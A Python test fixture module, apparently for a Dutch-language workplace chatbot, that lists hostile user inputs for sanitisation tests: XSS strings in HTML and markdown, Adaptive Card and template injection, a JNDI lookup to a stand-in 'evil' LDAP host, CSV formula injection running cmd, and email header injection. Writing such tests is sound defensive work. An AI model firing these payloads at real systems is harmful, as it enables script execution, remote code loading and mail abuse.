"""Hostile text an employee (or someone pretending to be one) could type: HTML and script, event
handlers, dangerous links, markdown that would format or link, Adaptive Card and template
injection, header and CSV injection. A payload that runs sets ``window.__koersXss``."""

from __future__ import annotations

RUN = "window.__koersXss=1"

HTML_AND_SCRIPT = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<a href="javascript:{RUN}">klik</a>',
    f"<body onload={RUN}>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    f"<img src=`x` onerror=`{RUN}`>",
    f'<style>@import "javascript:{RUN}";</style>',
    f"<template><img src=x onerror={RUN}></template>",
]
MARKDOWN = [
    f"[klik hier](javascript:{RUN})",
    f"![plaatje](javascript:{RUN})",
    "![plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[vertrouwd](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "**vet** en _schuin_ en ~~doorgehaald~~",
    "# Een kop",
    "> een citaat",
    "`code` en ```blok```",
    "| a | b |\n|---|---|\n| c | d |",
    "[link][1]\n\n[1]: javascript:alert(1)",
    f"<javascript:{RUN}>",
    "\\*niet vet\\*",
    "- lijst\n- met punten",
]
CARD_AND_TEMPLATE = [
    '{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"nep"}]}',
    '"}],"actions":[{"type":"Action.OpenUrl","url":"javascript:alert(1)"}],"x":[{"a":"',
    '{"type":"Action.Submit","data":{"koers_choice":"send"}}',
    "${jndi:ldap://evil/a}",
    "{{7*7}} {bot_name} {privacy_url} %s %d",
    "{{constructor.constructor('" + RUN + "')()}}",
    '=HYPERLINK("javascript:alert(1)","klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HEADERS_AND_ODD = [
    "hallo\r\nBcc: kwaad@example.org\r\nSubject: nep",
    "hallo\nContent-Type: text/html\n\n<script>" + RUN + "</script>",
    "\u202eetirw ot deeN\u202c omgekeerd",
    "nul\u0000byte en <b>vet</b>",
    "\ufeff<script>" + RUN + "</script>",
]
PAYLOADS = HTML_AND_SCRIPT + MARKDOWN + CARD_AND_TEMPLATE + HEADERS_AND_ODD
assert len(PAYLOADS) >= 50, len(PAYLOADS)
